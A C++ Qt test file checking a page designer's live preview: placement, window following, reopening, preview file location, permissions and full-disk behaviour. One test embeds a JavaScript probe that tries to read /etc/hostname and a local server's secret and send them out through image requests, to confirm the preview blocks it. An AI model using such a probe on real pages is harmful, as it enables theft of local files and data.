// The live preview with the real page engine, offscreen: what it shows, how
// it follows the main window, closing and reopening, and its preview file.
#include "enginetest.h"  // first: keeps the engine out of the real home folder

#include "uitest.h"
#include "../runtime/fulldisk.h"
#include "../webview_events/httpserver.h"

#include "design/document.h"
#include "design/rule.h"
#include "designer_ui/previewwindow.h"
#include "designer_ui/recovery.h"
#include "runtime/fileio.h"
#include "runtime/paths.h"

#include <QBuffer>
#include <QMessageBox>
#include <QPointer>
#include <QPushButton>
#include <QTemporaryDir>

#include <csignal>
#include <sys/stat.h>

using designer::LivePreview;
using designer::MainWindow;
using designer::PreviewWindow;
using namespace webview_test;

namespace {

const QColor kWhite(255, 255, 255);
const QColor kRed(255, 0, 0);

// The page of an empty design, byte for byte: UTF-8, CR LF, no byte-order mark.
const QByteArray kEmptyDocument =
    "<!DOCTYPE html>\r\n<html>\r\n<head>\r\n<meta charset=\"utf-8\">\r\n<style>\r\n"
    "\r\n</style>\r\n</head>\r\n<body>\r\n</body>\r\n</html>";

// A changed design reaches the preview within a tick (1 s) and a local load;
// the margin is for a busy machine.
constexpr int kRefreshTimeoutMs = 5000;

QByteArray fileBytes(const QString& path)
{
    return QByteArray::fromStdString(rt::readWholeFile(path).value_or(std::string()));
}

bool isBlank(const QImage& image)
{
    for (int y = 0; y < image.height(); ++y)
        for (int x = 0; x < image.width(); ++x)
            if (image.pixelColor(x, y) != kWhite)
                return false;
    return !image.isNull();
}

}  // namespace

class TestPreview : public QObject {
    Q_OBJECT

    webview::WebView web;  // the designer's web view: one for the whole run
    QTemporaryDir folder;
    std::unique_ptr<MainWindow> main;
    std::unique_ptr<LivePreview> preview;

    QPushButton* button(const char16_t* name) const
    {
        auto* b = main->findChild<QPushButton*>(QString::fromUtf16(name));
        if (!b)
            qFatal("no button");
        return b;
    }
    void clickOpen() { QTest::mouseClick(button(u"按钮4"), Qt::LeftButton); }
    void clickClose() { QTest::mouseClick(button(u"按钮7"), Qt::LeftButton); }
    QString previewFile() const { return folder.filePath(QStringLiteral("preview.html")); }

    // Where the preview's outer rectangle belongs for the current main window.
    QPoint expectedPreviewCorner() const
    {
        const QRect outer = main->outerGeometry();
        return {outer.left() + outer.width(), outer.top() + 24};
    }

    // Whether the box at (left, top), size w x h, is shown in the preview
    // frame with exactly these edges.
    static bool showsBoxAt(QWidget* frame, QColor colour, int left, int top, int w, int h)
    {
        const QImage image = frame->grab().toImage();
        return image.pixelColor(left, top) == colour && image.pixelColor(left + w - 1, top + h - 1) == colour
               && image.pixelColor(left - 1, top) == kWhite && image.pixelColor(left, top - 1) == kWhite
               && image.pixelColor(left + w, top + h - 1) == kWhite
               && image.pixelColor(left + w - 1, top + h) == kWhite;
    }
    bool waitForBox(QColor colour, int left, int top, int w, int h, int timeoutMs)
    {
        return waitUntil(
            [&] {
                PreviewWindow* open = preview->window();
                return open && showsBoxAt(open->previewFrame(), colour, left, top, w, h);
            },
            timeoutMs);
    }

    design::BoxHandle addRedBox(int left, int top, int w, int h)
    {
        return main->design().createComponentWithBox("div", "red", left, top, w, h,
                                              "background-color:#ff0000;", "");
    }

private slots:
    void initTestCase() { QVERIFY(webview::WebView::isEngineInstalled()); }

    void init()
    {
        main = std::make_unique<MainWindow>();
        main->show();
        QVERIFY(QTest::qWaitForWindowExposed(main.get()));
        QFile::remove(previewFile());
        preview = std::make_unique<LivePreview>(*main, web, folder.path());
    }

    void cleanup()
    {
        preview.reset();
        main.reset();
    }

    // The engine, started by the first preview (so this test comes first),
    // leaves the designer's own SIGTERM and SIGHUP handling in place.
    void endSignalsSurviveTheEngine()
    {
        designer::quitOnEndSignals();
        struct sigaction term {}, hup {};
        QVERIFY(::sigaction(SIGTERM, nullptr, &term) == 0 && ::sigaction(SIGHUP, nullptr, &hup) == 0);
        QVERIFY(term.sa_handler != SIG_DFL && term.sa_handler != SIG_IGN);
        clickOpen();
        QVERIFY(waitUntil([&] { return web.isLoadingCompleted(); }));
        struct sigaction termAfter {}, hupAfter {};
        QVERIFY(::sigaction(SIGTERM, nullptr, &termAfter) == 0 && ::sigaction(SIGHUP, nullptr, &hupAfter) == 0);
        QVERIFY(termAfter.sa_handler == term.sa_handler);
        QVERIFY(hupAfter.sa_handler == hup.sa_handler);
    }

    void opensBesideMainWindowAtCanvasSize()
    {
        clickOpen();
        PreviewWindow* w = preview->window();
        QVERIFY(w);
        QCOMPARE(w->windowTitle(), QStringLiteral("预览"));
        QVERIFY(w->isVisible());
        QCOMPARE(w->previewFrame()->objectName(), QStringLiteral("预览框"));
        QCOMPARE(w->refreshTimer()->objectName(), QStringLiteral("时钟1"));
        QCOMPARE(w->refreshTimer()->interval(), 1000);
        QVERIFY(w->refreshTimer()->isActive());

        // The main window's layout gives a 680 x 632 canvas.
        QCOMPARE(main->designCanvasSize(), QSize(680, 632));
        QCOMPARE(w->previewFrame()->geometry(), QRect(0, 0, 680, 632));
        QTRY_COMPARE(w->frameGeometry(), QRect(expectedPreviewCorner(), QSize(680, 632)));

        // The engine view lives in the preview frame.
        QVERIFY(web.engine().getViewHandle());
        QCOMPARE(web.engine().hostWindow(), w->previewFrame());
        // Its profile is a path: private storage, no folder in the user data folder.
        QCOMPARE(web.profileName(), rt::qstringToGb(folder.path() + QStringLiteral("/cache/")));
        QVERIFY(!QFileInfo::exists(dataHome() + QStringLiteral("/vireloc")));
    }

    // The road of one drag: the box moved on the canvas shows at its new left
    // and top in the preview after the next tick.
    void showsDraggedBoxAtItsPlace()
    {
        const design::BoxHandle box = addRedBox(40, 30, 100, 60);
        clickOpen();
        QVERIFY(waitForBox(kRed, 40, 30, 100, 60, kLoadTimeoutMs));

        const QPoint grab = main->outerGeometry().topLeft() + QPoint(400, 200);
        main->beginDrag(box, grab);
        main->continueDrag(grab + QPoint(60, 40), false);
        main->continueDrag(grab + QPoint(123, 87), false);
        main->endDrag();
        const std::string& rule = main->design().componentAt(1).rule;
        QCOMPARE(design::readRuleLeft(rule), std::string("163"));
        QCOMPARE(design::readRuleTop(rule), std::string("117"));

        QVERIFY(waitForBox(kRed, 163, 117, 100, 60, kRefreshTimeoutMs));
        // The file holds what saving would write.
        QCOMPARE(fileBytes(previewFile()),
                 QByteArray::fromStdString(design::encodeUtf8(main->design().generateDocument())));
    }

    void emptyDesignGivesEmptyDocument()
    {
        QVERIFY(rt::writeFileAtomically(previewFile(), "stale").ok);
        clickOpen();
        QTRY_COMPARE_WITH_TIMEOUT(fileBytes(previewFile()), kEmptyDocument, kRefreshTimeoutMs);
        // The stale page's text goes; the page shows blank.
        QVERIFY(waitUntil([&] { return isBlank(preview->window()->previewFrame()->grab().toImage()); },
                          kRefreshTimeoutMs));
    }

    void followsMainWindowMovesAndResizes()
    {
        clickOpen();
        PreviewWindow* w = preview->window();
        QVERIFY(w);
        QTRY_COMPARE(w->frameGeometry().topLeft(), expectedPreviewCorner());

        main->move(210, 120);
        QTRY_COMPARE(main->outerGeometry().topLeft(), QPoint(210, 120));
        QTRY_COMPARE(w->frameGeometry().topLeft(), expectedPreviewCorner());
        QCOMPARE(w->frameGeometry().size(), QSize(680, 632));

        // A new size: the canvas is laid out anew, frame and window follow it.
        main->resize(900, 600);
        QTRY_VERIFY(main->designCanvasSize() != QSize(680, 632));
        const QSize canvas = main->designCanvasSize();
        QTRY_COMPARE(w->frameGeometry(), QRect(expectedPreviewCorner(), canvas));
        QCOMPARE(w->previewFrame()->geometry(), QRect(QPoint(0, 0), canvas));
        // The engine view follows its host.
        QTRY_COMPARE(web.engine().getWidth(), canvas.width());
        QCOMPARE(web.engine().getHeight(), canvas.height());
    }

    void restoresWithMainWindow()
    {
        clickOpen();
        PreviewWindow* w = preview->window();
        QVERIFY(w);
        main->showMinimized();
        QTRY_VERIFY(w->isMinimized());
        main->showNormal();
        QTRY_VERIFY(!w->isMinimized());
        QCOMPARE(preview->window(), w);
        QVERIFY(web.engine().getViewHandle());

        // A preview maximised on its own goes back to normal when the
        // designer moves.
        w->showMaximized();
        QTRY_VERIFY(w->isMaximized());
        main->move(main->pos() + QPoint(15, 10));
        QTRY_VERIFY(!w->isMaximized());
        QTRY_COMPARE(w->frameGeometry().topLeft(), expectedPreviewCorner());
    }

    // However the preview closes, its timer stops, the engine view goes, and
    // the next opening makes a fresh view in a new frame that shows the design.
    void closesAndReopensWithFreshView_data()
    {
        QTest::addColumn<QString>("how");
        QTest::newRow("close button") << "button";
        QTest::newRow("its own title bar") << "window";
        QTest::newRow("main window maximised") << "maximise";
    }
    void closesAndReopensWithFreshView()
    {
        QFETCH(QString, how);
        addRedBox(20, 20, 50, 50);
        clickOpen();
        QPointer<PreviewWindow> first = preview->window();
        QVERIFY(first);
        QVERIFY(waitForBox(kRed, 20, 20, 50, 50, kLoadTimeoutMs));
        QPointer<QWidget> firstFrame = first->previewFrame();

        if (how == "button")
            clickClose();
        else if (how == "window")
            first->close();
        else
            main->showMaximized();
        QVERIFY(!preview->isOpen());
        QTRY_VERIFY(!first);
        QVERIFY(!firstFrame);
        QVERIFY(!web.engine().getViewHandle());
        QVERIFY(!web.engine().hostWindow());

        // No timer rewrites the file any more.
        const QByteArray written = fileBytes(previewFile());
        QVERIFY(!written.isEmpty());
        addRedBox(300, 300, 10, 10);
        QTest::qWait(1500);
        QCOMPARE(fileBytes(previewFile()), written);

        if (how == "maximise") {
            main->showNormal();
            QTRY_VERIFY(!main->isMaximized());
        }
        clickOpen();
        PreviewWindow* second = preview->window();
        QVERIFY(second);
        QVERIFY(web.engine().getViewHandle());
        QCOMPARE(web.engine().hostWindow(), second->previewFrame());
        QVERIFY(waitForBox(kRed, 300, 300, 10, 10, kLoadTimeoutMs));
    }

    void openingTwiceKeepsOneWindow()
    {
        clickOpen();
        PreviewWindow* w = preview->window();
        QVERIFY(w);
        const wkeWebView view = web.engine().getViewHandle();
        w->showMinimized();
        QTRY_VERIFY(w->isMinimized());

        clickOpen();
        QCOMPARE(preview->window(), w);
        QCOMPARE(web.engine().getViewHandle(), view);
        QTRY_VERIFY(!w->isMinimized());
        int previews = 0;
        for (QWidget* top : QApplication::topLevelWidgets())
            previews += top->windowTitle() == QStringLiteral("预览") ? 1 : 0;
        QCOMPARE(previews, 1);
    }

    // The preview file goes where a file can be made: the program directory,
    // else a folder of ours in the per-user data folder.
    void previewFolderFollowsWritability()
    {
        QCOMPARE(designer::previewFolderFor(folder.path()), folder.path());
        QCOMPARE(designer::previewFolder(), rt::programDirectory());  // the build is writable

        QVERIFY(rt::writeFileAtomically(folder.filePath(QStringLiteral("plain")), "x").ok);
        const QString unusable = folder.filePath(QStringLiteral("plain/bin"));
        const QString fallback = rt::userDataBase() + QStringLiteral("tolvane");
        QVERIFY(fallback.startsWith(dataHome()));
        QCOMPARE(designer::previewFolderFor(unusable), fallback);
        QVERIFY(QFileInfo(fallback).isDir());
        // No probe file is left behind.
        QVERIFY(QDir(folder.path()).entryList({QStringLiteral(".preview-*")}, QDir::Files | QDir::Hidden).isEmpty());
    }
    // A design's script runs in the preview as in a browser that opened the
    // saved page: the images beside it and remote ones load, but neither a
    // file of the user's (nor an image from another folder, which a canvas
    // could read back) nor a local server's answer can be read and sent on. The page is on disk before the preview opens (its first load) and
    // is rewritten every tick (the refreshes).
    void scriptsInTheDesignCannotReadLocalData()
    {
        events_test::HttpServer server;
        server.setHandler([](const events_test::RecordedRequest& r) {
            if (r.target.startsWith("/secret"))
                return events_test::HttpServer::response("local-secret", "text/plain");
            QByteArray png;
            QBuffer buffer(&png);
            buffer.open(QIODevice::WriteOnly);
            QImage(4, 4, QImage::Format_RGB32).save(&buffer, "PNG");
            return events_test::HttpServer::response(png, "image/png");
        });
        {
            QImage beside(4, 4, QImage::Format_RGB32);
            beside.fill(Qt::blue);
            QVERIFY(beside.save(folder.filePath(QStringLiteral("beside.png"))));
            QVERIFY(QDir(folder.path()).mkpath(QStringLiteral("sub")));
            QVERIFY(beside.save(folder.filePath(QStringLiteral("sub/below.png"))));
        }
        const QString h = QString::fromLatin1(server.url("/"));
        const QString send = QStringLiteral("function s(p){new Image().src='%1'+p+'&n='+Math.random();}").arg(h);
        const QString probe = send + QStringLiteral(
            "s('ran?');"
            "function get(u,tag){try{var x=new XMLHttpRequest();x.open('GET',u,false);x.send();"
            "s('leak?'+tag+'='+encodeURIComponent(x.responseText));}catch(e){s('blocked?'+tag);}"
            "fetch(u).then(function(r){return r.text();}).then(function(t){s('leak?fetch-'+tag+'='+encodeURIComponent(t));},"
            "function(){s('blocked?fetch-'+tag);});}"
            "get('file:///etc/hostname','file');get('%1secret','server');").arg(h);
        const QString inner = QStringLiteral(
            "<img src=\"beside.png\" onload=\"new Image().src='%1beside-loaded?'+this.naturalWidth\">"
            "<img src=\"%1remote.png\"><img src=\"sub/below.png\" onload=\"new Image().src='%1leak?other-folder'\">"
            "<img src=\"missing.png\" onerror=\"%2\">").arg(h, probe);
        main->design().createComponentWithBox("div", "probe", 0, 0, 200, 100, "", rt::qstringToGb(inner));
        QVERIFY(rt::writeFileAtomically(previewFile(), design::encodeUtf8(main->design().generateDocument())).ok);
        clickOpen();
        const auto count = [&](const QByteArray& prefix) {
            int n = 0;
            for (const events_test::RecordedRequest& r : server.requests())
                n += r.target.startsWith(prefix) ? 1 : 0;
            return n;
        };
        // The first load and two refreshes, each with every probe answered.
        const auto seen = [&] {
            QStringList targets;
            for (const events_test::RecordedRequest& r : server.requests())
                targets << QString::fromLatin1(r.target.left(60));
            return targets.join(' ');
        };
        QVERIFY2(waitUntil([&] { return count("/ran?") >= 3 && count("/blocked?") >= 12; }, 3 * kRefreshTimeoutMs),
                 qPrintable(seen()));
        QTest::qWait(300);  // a late answer would come now
        QStringList leaks;
        for (const events_test::RecordedRequest& r : server.requests())
            if (r.target.startsWith("/leak"))
                leaks << QString::fromLatin1(r.target);
        QVERIFY2(leaks.isEmpty(), qPrintable(leaks.join(' ')));
        QVERIFY2(count("/beside-loaded?4") >= 1, qPrintable(seen()));
        QVERIFY2(count("/remote.png") >= 1, qPrintable(seen()));
    }

    // The preview page is the user's alone; on a full disk the last page
    // stays, the preview says so once, and it goes on once there is room.
    void previewFileIsPrivateAndSurvivesAFullDisk()
    {
        testfs::FullDisk disk;
        TOLVANE_NEED_FULL_DISK(disk);
        preview = std::make_unique<LivePreview>(*main, web, disk.path());
        const QString file = disk.filePath(QStringLiteral("preview.html"));
        addRedBox(10, 10, 50, 50);
        clickOpen();
        const QByteArray first = QByteArray::fromStdString(design::encodeUtf8(main->design().generateDocument()));
        QTRY_COMPARE_WITH_TIMEOUT(fileBytes(file), first, kRefreshTimeoutMs);
        struct stat st {};
        QVERIFY(::stat(QFile::encodeName(file).constData(), &st) == 0);
        QCOMPARE(int(st.st_mode & 07777), 0600);

        QVERIFY(disk.fill());
        addRedBox(100, 100, 50, 50);
        PreviewWindow* w = preview->window();
        QVERIFY(waitUntil([&] { return w->writeErrorBox() && w->writeErrorBox()->isVisible(); }, kRefreshTimeoutMs));
        QVERIFY2(w->writeErrorBox()->text().contains(QString::fromLocal8Bit(std::strerror(ENOSPC))),
                 qPrintable(w->writeErrorBox()->text()));
        QCOMPARE(fileBytes(file), first);
        // Said once, not at every tick.
        w->writeErrorBox()->hide();
        QTest::qWait(1500);
        QVERIFY(!w->writeErrorBox()->isVisible());
        QCOMPARE(fileBytes(file), first);

        QVERIFY(QFile::remove(disk.filePath(QStringLiteral(".filler"))));
        QTRY_COMPARE_WITH_TIMEOUT(fileBytes(file),
                                  QByteArray::fromStdString(design::encodeUtf8(main->design().generateDocument())),
                                  kRefreshTimeoutMs);
        preview.reset();  // before the disk goes
    }
};

QTEST_MAIN(TestPreview)
#include "test_preview.moc"
